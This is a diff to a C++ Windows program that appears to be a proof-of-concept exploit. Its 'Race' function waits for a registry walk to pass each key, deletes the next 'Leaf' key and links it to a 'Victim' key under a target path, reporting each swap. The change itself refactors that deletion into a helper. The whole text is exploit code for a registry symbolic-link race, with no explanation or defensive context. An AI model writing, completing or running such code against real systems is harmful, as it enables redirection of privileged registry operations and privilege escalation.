@@ -24,6 +24,7 @@
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
+#include <cwchar>
 
 namespace {
 
@@ -137,8 +138,7 @@ bool Race(const char *path, int count, const char *target) {
     std::snprintf(leaf, sizeof leaf, "Leaf%03d", i);
     while (Present(parent, leaf) && GetTickCount() < deadline) {
     }
-    DWORD subkeys = 0;
-    if (RegQueryInfoKeyA(parent, nullptr, nullptr, nullptr, &subkeys, nullptr, nullptr, nullptr,
+    if (RegQueryInfoKeyA(parent, nullptr, nullptr, nullptr, nullptr, nullptr, nullptr, nullptr,
                          nullptr, nullptr, nullptr, nullptr) == ERROR_KEY_DELETED) {
       break; // the walk is past this key
     }
@@ -148,12 +148,9 @@ bool Race(const char *path, int count, const char *target) {
     std::snprintf(leaf, sizeof leaf, "Leaf%03d", i + 1);
     char victim[MAX_PATH];
     std::snprintf(victim, sizeof victim, "%s\\Victim%03d", target, i + 1);
-    HKEY next = nullptr;
-    if (RegOpenKeyExA(parent, leaf, REG_OPTION_OPEN_LINK, KEY_ALL_ACCESS | view, &next) ==
-        ERROR_SUCCESS) {
-      ntDeleteKey(next);
-      RegCloseKey(next);
-    }
+    wchar_t wide[32];
+    std::swprintf(wide, sizeof wide / sizeof *wide, L"Leaf%03d", i + 1);
+    Clear(parent, wide);
     if (Link(parent, leaf, victim)) {
       std::printf("swapped %s\n", leaf);
       std::fflush(stdout);
